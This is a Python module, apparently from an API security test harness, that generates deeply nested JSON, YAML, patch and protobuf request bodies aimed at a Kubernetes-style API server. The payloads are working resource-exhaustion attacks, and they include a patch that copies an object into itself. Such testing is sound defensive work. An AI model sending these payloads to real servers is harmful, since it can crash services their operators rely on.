"""Values that nest without end, at once or little by little."""

from ..conversation import Conversation
from ..requests import APPLY_PATCH, JSON_PATCH, MERGE_PATCH, PROTOBUF, STRATEGIC_PATCH, WIDGETS, YAML, request
from .shape import Shape

MAGIC = b"k8s\x00"


def at_once(site, random):
    """A body of many levels, in every format."""
    levels = random.choice((100, 140, 250, 1_000, 10_001, 100_000, 700_000))
    opening, closing = random.choice(((b'{"a":', b"}"), (b"[", b"]"), (b'[{"a":', b"}]")))
    inner = opening * levels + b"1" + closing * levels * random.randint(0, 1)
    body = (
        b'{"apiVersion":"attack.example.com/v1","kind":"Widget","metadata":{"name":"target"},"spec":{"any":'
        + inner
        + b"}}"
    )
    kind = random.choice(("application/json", YAML, MERGE_PATCH, STRATEGIC_PATCH, APPLY_PATCH))
    method, target = ("PATCH", f"{WIDGETS}/target?fieldManager=m") if "patch" in kind else ("POST", WIDGETS)
    return Conversation(parts=(request(site, method, target, body[:3_000_000], kind=kind),))


def step_by_step(site, random):
    """Patches each of which nests the object one level deeper."""
    levels = random.randint(50, 200)
    value = '{"a":' * levels + "1" + "}" * levels
    turns = random.randint(2, 6)
    pointer = "/spec/any"
    pieces = []
    for _ in range(turns):
        operation = f'[{{"op":"add","path":"{pointer}","value":{value}}}]'.encode()
        pieces.append(request(site, "PATCH", f"{WIDGETS}/target", operation, kind=JSON_PATCH))
        pointer += "/a" * levels
    pieces.append(request(site, "GET", WIDGETS))
    pieces.append(request(site, "PATCH", f"{WIDGETS}/target", {"spec": {"any": None}}, kind=MERGE_PATCH))
    return Conversation(parts=tuple(pieces))


def copy_into_itself(site, random):
    """One JSON patch that copies a value into itself."""
    operations = [{"op": "add", "path": "/spec/any", "value": {}}]
    operations += [{"op": "copy", "from": "/spec/any", "path": "/spec/any/a"}] * random.randint(5, 200)
    return Conversation(
        parts=(request(site, "PATCH", f"{WIDGETS}/target?dryRun=All", operations, kind=JSON_PATCH),)
    )


def protobuf(site, random):
    """Messages in messages."""
    inner = b""
    for _ in range(random.choice((50, 140, 1_000, 10_000))):
        inner = b"\x0a" + _varint(len(inner)) + inner
    body = MAGIC + b"\x12" + _varint(len(inner)) + inner
    return Conversation(
        parts=(request(site, "POST", "/api/v1/namespaces/attacked/configmaps", body, kind=PROTOBUF),)
    )


def _varint(number):
    result = b""
    while number > 127:
        result += bytes([number & 127 | 128])
        number >>= 7
    return result + bytes([number])


SHAPES = (
    Shape("deep-bodies", at_once),
    Shape("deeper-with-each-patch", step_by_step),
    Shape("copied-into-itself", copy_into_itself),
    Shape("deep-protobuf", protobuf),
)
